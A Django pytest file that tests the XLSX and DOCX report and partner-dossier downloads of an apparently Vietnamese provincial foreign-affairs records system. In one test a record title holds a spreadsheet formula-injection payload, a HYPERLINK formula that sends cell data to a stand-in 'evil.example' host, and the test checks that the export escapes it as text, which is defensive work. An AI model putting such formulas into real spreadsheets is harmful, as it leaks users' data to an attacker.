"""The period report's XLSX and DOCX downloads and the partner dossier's DOCX:
the administrative layout, the figures the press reported, real numbers and
dates in the workbook, visibility, bad periods and a fixed number of queries."""

import datetime as dt
from io import BytesIO

import docx
import openpyxl
import pytest
from django.contrib.auth.models import AnonymousUser
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import translation
from docx.oxml.ns import qn

from agreements.models import Agreement, AgreementKind
from common import docx_layout
from delegations.models import DatePrecision, Delegation, Direction
from offices.models import OfficeProfile
from partners.models import LocalUnit, Partner
from projects.models import ParticipantRole, Project, ProjectKind, ProjectParticipant
from register.publishable import ReviewState
from reports.selectors_dossier import partner_dossier
from tests.conftest import english

PUBLISHED = {"is_public": True, "review_state": ReviewState.APPROVED}
# Approved but not marked public: an official's report counts it, a visitor's does not.
INTERNAL = {"is_public": False, "review_state": ReviewState.APPROVED}
TERM = {"start": "2021-01-01", "end": "2024-03-31"}
DOCX_URL = reverse("reports:period_docx")
XLSX_URL = reverse("reports:period_xlsx")
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SOURCE_TITLE = "Đoàn công tác Bộ Ngoại giao làm việc tại tỉnh Lạng Sơn"


@pytest.fixture(autouse=True)
def _plain_static_files(settings):
    # Tests run with DEBUG off but without collectstatic: the manifest storage would fail on {% static %}.
    settings.STORAGES = {
        **settings.STORAGES,
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
    }


def partner(name_en):
    return Partner.objects.get(name_en=name_en)


def delegation(title, start, *partners, direction=Direction.DOMESTIC, published=True, **fields):
    record = Delegation.objects.create(
        title=title,
        direction=direction,
        start_date=dt.date.fromisoformat(start),
        **fields,
        **(PUBLISHED if published else INTERNAL),
    )
    record.partners.add(*partners)
    return record


def agreement(title, signed_on, *partners, published=True):
    record = Agreement.objects.create(
        title=title,
        kind=AgreementKind.MOU,
        signed_on=dt.date.fromisoformat(signed_on),
        **(PUBLISHED if published else INTERNAL),
    )
    record.partners.add(*partners)
    return record


def download(client, url, params=None, content_type=DOCX_TYPE):
    response = client.get(url, params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    return response


def word(response):
    return docx.Document(BytesIO(response.getvalue()))


def word_text(document):
    """Every paragraph of the body and of every table cell, in order."""
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            for cell in row.cells:
                parts.extend(p.text for p in cell.paragraphs)
    return "\n".join(parts)


def cell_texts(document):
    return {cell.text for table in document.tables for row in table.rows for cell in row.cells}


def workbook(response):
    return openpyxl.load_workbook(BytesIO(response.getvalue()))


def row_with(sheet, first_value):
    for row in sheet.iter_rows():
        if row[0].value == first_value:
            return row
    raise AssertionError(f"no row starts with {first_value!r} in {sheet.title}")


# --- The period report in Word ---------------------------------------------------------------------------------


def test_the_period_docx_for_2021_to_march_2024_carries_62_510_165_883_and_their_source(client, seeded):
    response = download(client, DOCX_URL, TERM)

    assert response["Content-Disposition"] == 'attachment; filename="bao-cao-2021-01-01_2024-03-31.docx"'
    document = word(response)
    text = word_text(document)
    assert "Tình hình hợp tác quốc tế từ ngày 01/01/2021 đến ngày 31/03/2024" in text
    assert "BÁO CÁO" in [p.text for p in document.paragraphs]
    # The reported figures stand alone in their cells, as the press gave them.
    cells = cell_texts(document)
    assert {"62", "510", "165", "883"} <= cells
    assert f"Nguồn: {SOURCE_TITLE}, Báo Lạng Sơn, 03/04/2024" in text
    assert "“tỉnh đã cử 62 đoàn”" in text


def test_the_period_docx_opens_with_the_national_heading_beside_the_issuing_body(client, seeded):
    document = word(download(client, DOCX_URL, TERM))

    heading = document.tables[0]
    issuer, national = (cell.text for cell in heading.rows[0].cells)
    assert issuer.split("\n")[:2] == ["UBND TỈNH LẠNG SƠN", "SỞ NGOẠI VỤ"]
    assert national.split("\n")[:2] == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc"]
    number, date_line = (cell.text for cell in heading.rows[1].cells)
    assert number == "Số:      /BC-SNgV"
    assert date_line.startswith("Lạng Sơn, ngày ")
    assert heading.rows[1].cells[1].paragraphs[0].runs[0].italic
    # The heading has no borders; the data tables have them and repeat their header row.
    assert heading._tbl.tblPr.find(qn("w:tblBorders")).find(qn("w:top")).get(qn("w:val")) == "nil"
    data = document.tables[1]
    assert data._tbl.tblPr.find(qn("w:tblBorders")).find(qn("w:top")).get(qn("w:val")) == "single"
    assert data.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert document.styles["Normal"].font.name == "Times New Roman"
    assert (round(document.sections[0].page_width.cm, 1), round(document.sections[0].page_height.cm, 1)) == (21.0, 29.7)
    # The ending ("Nơi nhận" beside the signer) is one row that never splits across two pages.
    ending = document.tables[-1]
    assert ending.rows[0].cells[0].text.startswith("Nơi nhận:")
    assert ending.rows[0]._tr.trPr.find(qn("w:cantSplit")) is not None


def test_the_issuing_body_place_symbol_and_signer_come_from_the_office_profile(client, seeded):
    profile = OfficeProfile.objects.get()
    profile.superior_body, profile.heading_name = "UBND TỈNH CAO BẰNG", "VĂN PHÒNG UBND TỈNH"
    profile.place, profile.report_symbol, profile.signer_title = "Cao Bằng", "BC-VP", "CHÁNH VĂN PHÒNG"
    profile.save()

    document = word(download(client, DOCX_URL, TERM))

    heading = document.tables[0]
    assert heading.rows[0].cells[0].text.startswith("UBND TỈNH CAO BẰNG\nVĂN PHÒNG UBND TỈNH")
    assert heading.rows[1].cells[0].text == "Số:      /BC-VP"
    assert heading.rows[1].cells[1].text.startswith("Cao Bằng, ngày ")
    assert document.tables[-1].rows[0].cells[1].text == "CHÁNH VĂN PHÒNG"


@pytest.mark.parametrize(
    ("day", "line"),
    [
        (dt.date(2026, 11, 23), "Lạng Sơn, ngày 23 tháng 11 năm 2026"),
        (dt.date(2026, 2, 5), "Lạng Sơn, ngày 05 tháng 02 năm 2026"),
        (dt.date(2026, 3, 9), "Lạng Sơn, ngày 09 tháng 3 năm 2026"),
    ],
)
def test_the_date_line_pads_days_and_the_first_two_months_as_decree_30_asks(day, line):
    with translation.override("vi"):
        assert docx_layout.place_and_date(day, "Lạng Sơn") == line


# --- The period report in Excel --------------------------------------------------------------------------------


def test_the_period_xlsx_has_one_sheet_per_table_with_vietnamese_names(client, seeded):
    response = download(client, XLSX_URL, TERM, XLSX_TYPE)

    assert response["Content-Disposition"] == 'attachment; filename="bao-cao-2021-01-01_2024-03-31.xlsx"'
    book = workbook(response)
    assert book.sheetnames == [
        "Số liệu chính",
        "Đoàn theo loại",
        "Đoàn ra",
        "Đoàn vào",
        "Hội đàm biên giới",
        "Đoàn lãnh đạo TW, tỉnh",
        "Thỏa thuận theo đối tác",
        "Thỏa thuận theo cấp ký",
        "Thỏa thuận đã ký",
        "Dự án theo loại",
        "Cặp kết nghĩa",
        "Hội nghị, hội thảo",
        "Số liệu công bố",
        "Số liệu không ghi ngày kết thúc",
    ]
    assert all(len(name) <= 31 for name in book.sheetnames)
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.bold for cell in sheet[1]), sheet.title


def test_the_english_workbook_has_valid_sheet_names_too(client, seeded):
    response = english(client).get(XLSX_URL, TERM)

    book = workbook(response)
    assert book.sheetnames[:4] == ["Key figures", "Delegations by kind", "Outbound delegations", "Inbound delegations"]
    assert all(len(name) <= 31 for name in book.sheetnames)


def test_reported_figures_are_real_numbers_and_their_dates_real_dates(client, seeded):
    sheet = workbook(download(client, XLSX_URL, TERM, XLSX_TYPE))["Số liệu công bố"]

    headers = [cell.value for cell in sheet[1]]
    reported = {row[headers.index("Trích dẫn")].value: row for row in sheet.iter_rows(min_row=2) if row[0].value}
    for excerpt, value in (
        ("tỉnh đã cử 62 đoàn", 62),
        ("510 lượt cán bộ đi công tác tại nước ngoài", 510),
        ("tổ chức đón tiếp và làm việc với 165 đoàn", 165),
        ("883 lượt người nước ngoài", 883),
    ):
        row = reported[excerpt]
        cell = row[headers.index("Công bố")]
        assert cell.value == value and cell.data_type == "n" and cell.number_format == "#,##0"
        start, end = row[headers.index("Từ ngày")], row[headers.index("Đến ngày")]
        assert (start.value, end.value) == (dt.datetime(2021, 1, 1), dt.datetime(2024, 3, 31))
        assert start.number_format == "dd/mm/yyyy"
        assert row[headers.index("Nguồn")].value == SOURCE_TITLE
        assert row[headers.index("Ngày đăng")].value == dt.datetime(2024, 4, 3)


def test_money_columns_are_numbers_in_vnd_with_a_total_row(client, seeded):
    sheet = workbook(download(client, XLSX_URL, {"start": "2008-01-01", "end": "2024-12-31"}, XLSX_TYPE))[
        "Dự án theo loại"
    ]

    headers = [cell.value for cell in sheet[1]]
    assert "Cam kết (VND)" in headers
    total = row_with(sheet, "Tổng cộng")
    assert total[0].font.bold
    disbursed = total[headers.index("Giải ngân trong kỳ (VND)")]
    # The World Bank's in-kind aid to Cao Lộc: 84.248.000 ₫ in 2010 and 222.506.000 ₫ in 2011.
    assert disbursed.value >= 84_248_000 + 222_506_000
    assert disbursed.number_format == "#,##0"


def test_a_title_that_looks_like_a_formula_is_written_as_text(client, seeded):
    delegation('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "2023-05-04", host_unit=None)

    sheet = workbook(download(client, XLSX_URL, TERM, XLSX_TYPE))["Đoàn lãnh đạo TW, tỉnh"]

    titles = [row[2].value for row in sheet.iter_rows(min_row=2)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")' in titles


# --- Visibility ------------------------------------------------------------------------------------------------


def test_a_visitors_files_hold_only_published_records_and_an_officials_hold_all(client, official_client, seeded):
    delegation("Đoàn công tác nội bộ chưa công bố", "2023-06-01", published=False)
    agreement("Thỏa thuận nội bộ chưa công bố", "2023-07-01", partner("Pingxiang"), published=False)

    for url, content_type in ((DOCX_URL, DOCX_TYPE), (XLSX_URL, XLSX_TYPE)):
        visitor = download(client, url, TERM, content_type).getvalue()
        official = download(official_client, url, TERM, content_type).getvalue()
        if content_type == DOCX_TYPE:
            visitor_text, official_text = word_text(word_bytes(visitor)), word_text(word_bytes(official))
        else:
            visitor_text, official_text = workbook_text(visitor), workbook_text(official)
        for title in ("Đoàn công tác nội bộ chưa công bố", "Thỏa thuận nội bộ chưa công bố"):
            assert title not in visitor_text
            assert f"{title} (nội bộ)" in official_text
        assert "Chỉ tính trên các bản ghi đã công khai." in visitor_text
        assert "Chỉ tính các bản ghi đã duyệt, kể cả bản ghi nội bộ; không tính bản ghi đang chờ duyệt." in (
            official_text
        )


def word_bytes(content):
    return docx.Document(BytesIO(content))


def workbook_text(content):
    book = openpyxl.load_workbook(BytesIO(content))
    return "\n".join(
        str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value
    )


def test_a_visitors_dossier_leaves_out_unpublished_delegations(client, official_client, seeded):
    guangxi = partner("Guangxi Zhuang Autonomous Region")
    delegation("Đoàn Quảng Tây chưa công bố", "2023-09-12", guangxi, direction=Direction.INBOUND, published=False)
    url = reverse("reports:dossier_docx", args=[guangxi.pk])

    visitor = word_text(word(download(client, url)))
    official = word_text(word(download(official_client, url)))

    assert "Đoàn Quảng Tây chưa công bố" not in visitor
    assert "Đoàn Quảng Tây chưa công bố (Chưa công khai)" in official


# --- Bad periods -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [DOCX_URL, XLSX_URL])
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"start": "2024-03-31", "end": "2021-01-01"}, "trước"),
        ({"preset": "decade"}, "decade"),
        ({"start": "2024-02-30", "end": "2024-03-31"}, "2024-02-30"),
    ],
)
def test_a_period_the_page_refuses_sends_the_reader_back_to_the_page_with_the_message(client, db, url, params, message):
    response = client.get(url, params)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("reports:period") + "?")
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert any(message in error for error in page.context["errors"])


# --- Query counts ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("url", "content_type"), [(DOCX_URL, DOCX_TYPE), (XLSX_URL, XLSX_TYPE)])
def test_a_period_download_costs_eighteen_queries_whatever_the_number_of_rows(
    client, seeded, django_assert_num_queries, url, content_type
):
    pingxiang = partner("Pingxiang")
    for n in range(3):
        agreement(f"Thỏa thuận {n}", f"2022-0{n + 1}-15", pingxiang)
        delegation(f"Đoàn {n}", f"2022-0{n + 1}-10", pingxiang, direction=Direction.OUTBOUND, size=5)

    # The eighteen of period_report(): reported figures, local units; delegation totals, by country, the
    # countries' names, the fixtures' delegation figures (the tally), domestic visits; agreements by signing
    # level (the tally), the fixtures' agreement figures limited to a partner, by partner, the signed list and
    # its partners; projects by kind; disbursed by kind (the transaction tally), the aid figures limited to a
    # unit or partner; the amounts not converted to đồng; twinning pairs by kind; international conferences
    # by kind (section 8). Nothing more per row.
    with django_assert_num_queries(18):
        download(client, url, TERM, content_type)

    for n in range(3, 9):
        agreement(f"Thỏa thuận {n}", f"2023-0{n + 1}-15", pingxiang)
        delegation(f"Đoàn {n}", f"2023-0{n + 1}-10", pingxiang, direction=Direction.OUTBOUND, size=5)
    with django_assert_num_queries(18):
        download(client, url, TERM, content_type)


def test_a_dossier_download_costs_fifteen_queries_whatever_the_number_of_rows(
    client, seeded, django_assert_num_queries
):
    guangxi = partner("Guangxi Zhuang Autonomous Region")
    url = reverse("reports:dossier_docx", args=[guangxi.pk])
    for n in range(8):
        delegation(f"Đoàn {n}", f"2022-0{n + 1}-10", guangxi, direction=Direction.INBOUND, size=4)
        project = Project.objects.create(title=f"Dự án {n}", kind=ProjectKind.ODA, **PUBLISHED)
        ProjectParticipant.objects.create(project=project, partner=guangxi, role=ParticipantRole.FUNDING)
    ContentType.objects.get_for_model(Partner)  # the content type is cached once per process

    # The partner, then the fourteen of partner_dossier(): subtree (which gives the children),
    # ancestors, citations; the totals and the agreements in force (the partner tallies);
    # delegation rows and their partners; agreement rows and their partners; twinning pairs;
    # project rows and their participants; reported figures; conferences (none here, so not their partners).
    with django_assert_num_queries(15):
        download(client, url)


# --- The dossier in Word ---------------------------------------------------------------------------------------


def test_guangxis_dossier_docx_has_its_names_place_totals_timeline_and_sources(client, seeded):
    guangxi = partner("Guangxi Zhuang Autonomous Region")
    inbound_before = partner_dossier(guangxi, AnonymousUser()).totals["delegations"]["inbound"]
    delegation("Đoàn Quảng Tây thăm Lạng Sơn", "2024-03-12", guangxi, direction=Direction.INBOUND, size=12)
    delegation(
        "Đoàn Quảng Tây dự hội chợ",
        "2023-10-01",
        guangxi,
        direction=Direction.INBOUND,
        date_precision=DatePrecision.MONTH,
    )

    response = download(client, reverse("reports:dossier_docx", args=[guangxi.pk]))

    assert response["Content-Disposition"] == (
        f'attachment; filename="ho-so-doi-tac-khu-tu-tri-dan-toc-choang-quang-tay-{guangxi.pk}.docx"'
    )
    document = word(response)
    text = word_text(document)
    assert "HỒ SƠ ĐỐI TÁC" in text
    assert "Khu tự trị dân tộc Choang Quảng Tây – Guangxi Zhuang Autonomous Region – 广西壮族自治区" in text
    assert document.tables[0].rows[0].cells[1].text.startswith("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM")
    names = {row.cells[0].text: row.cells[1].text for row in document.tables[1].rows}
    assert names["Trực thuộc"] == "Trung Quốc"
    assert names["Tên bản ngữ"] == "广西壮族自治区"
    totals = {row.cells[0].paragraphs[0].text: row.cells[1].text for row in document.tables[2].rows}
    assert totals["Đoàn vào"] == str(inbound_before + 2)
    timeline = [[cell.text for cell in row.cells] for row in document.tables[3].rows[1:]]
    dates = [row[1] for row in timeline]
    assert "12/03/2024" in dates and "tháng 10/2023" in dates
    assert any(row[3].startswith("Đoàn Quảng Tây thăm Lạng Sơn") for row in timeline)
    assert "Nguồn" in [p.text for p in document.paragraphs]


def test_a_dossier_of_an_unknown_partner_is_not_found(client, db):
    assert client.get(reverse("reports:dossier_docx", args=[999999])).status_code == 404


# --- Links on the pages ----------------------------------------------------------------------------------------


def test_the_period_page_links_its_downloads_with_its_own_query_string(client, seeded):
    html = client.get(reverse("reports:period"), {"preset": "quarter", "year": "2024", "quarter": "1"}).content.decode()

    for url in (XLSX_URL, DOCX_URL):
        assert f'href="{url}?preset=quarter&amp;year=2024&amp;quarter=1"' in html


def test_the_dossier_page_links_its_word_download(client, seeded):
    guangxi = partner("Guangxi Zhuang Autonomous Region")

    html = client.get(guangxi.get_absolute_url()).content.decode()

    assert f'href="{reverse("reports:dossier_docx", args=[guangxi.pk])}"' in html


def test_a_local_unit_that_hosts_a_visit_is_named_in_the_word_table(client, seeded):
    host = LocalUnit.objects.get(name="UBND tỉnh Lạng Sơn")
    delegation("Đoàn Bộ Ngoại giao làm việc", "2022-04-05", host_unit=host, leader_name="Nguyễn Văn A")

    cells = cell_texts(word(download(client, DOCX_URL, TERM)))

    assert "Đoàn Bộ Ngoại giao làm việc" in cells
    assert "UBND tỉnh Lạng Sơn" in cells
    assert "05/04/2022" in cells
